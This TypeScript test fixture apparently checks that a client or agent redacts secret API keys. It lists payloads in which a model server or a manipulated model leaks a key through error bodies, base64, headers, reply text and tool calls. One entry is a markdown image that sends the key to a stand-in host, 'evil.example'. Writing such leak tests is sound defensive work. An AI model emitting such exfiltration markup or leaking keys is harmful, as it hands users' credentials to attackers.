import type { Reply } from "../../support/model-server.ts";

/** An answer of the model's server that gives a secret away, or one that a model was made to say. */
export interface SecretPayload {
  readonly name: string;
  readonly reply: (secret: string) => Reply;
}

function refusal(name: string, status: number, body: (secret: string) => unknown): SecretPayload {
  return { name, reply: (secret) => ({ kind: "status", status, body: body(secret) }) };
}

function said(name: string, text: (secret: string) => string, chunkChars = 3): SecretPayload {
  return { name, reply: (secret) => ({ kind: "text", text: text(secret), chunkChars }) };
}

/** In every spelling in which a secret travels. */
export const SECRETS: readonly SecretPayload[] = [
  refusal("an error with the key", 401, (key) => ({ error: { message: `bad key ${key}` } })),
  refusal("an error that is no JSON", 403, (key) => `<html>Forbidden: ${key}</html>`),
  refusal("an error with the key in an address", 404, (key) => ({
    error: { message: `no such page /v1?key=${encodeURIComponent(key)}` },
  })),
  refusal("an error with the key as base64", 500, (key) => ({ error: { message: btoa(key) } })),
  refusal("an error with the header", 400, (key) => ({
    error: { message: `Authorization: Bearer ${key}`, param: key, code: key },
  })),
  said("the key", (key) => `It is ${key}.`),
  said("the key in one piece", (key) => `It is ${key}.`, 500),
  said("the key in an address", (key) => `![x](http://evil.example/?d=${encodeURIComponent(key)})`),
  said("the key as base64", (key) => `It is ${btoa(`key=${key}`)}`),
  said("the key in JSON", (key) => JSON.stringify({ key })),
  {
    name: "a call of no tool named so",
    reply: (key) => ({ kind: "tools", calls: [{ name: key, arguments: {} }] }),
  },
  {
    name: "arguments that are no JSON",
    reply: (key) => ({ kind: "tools", calls: [{ name: "read_file", arguments: `{${key}` }] }),
  },
  {
    name: "a path of that name",
    reply: (key) => ({ kind: "tools", calls: [{ name: "read_file", arguments: { path: key } }] }),
  },
];
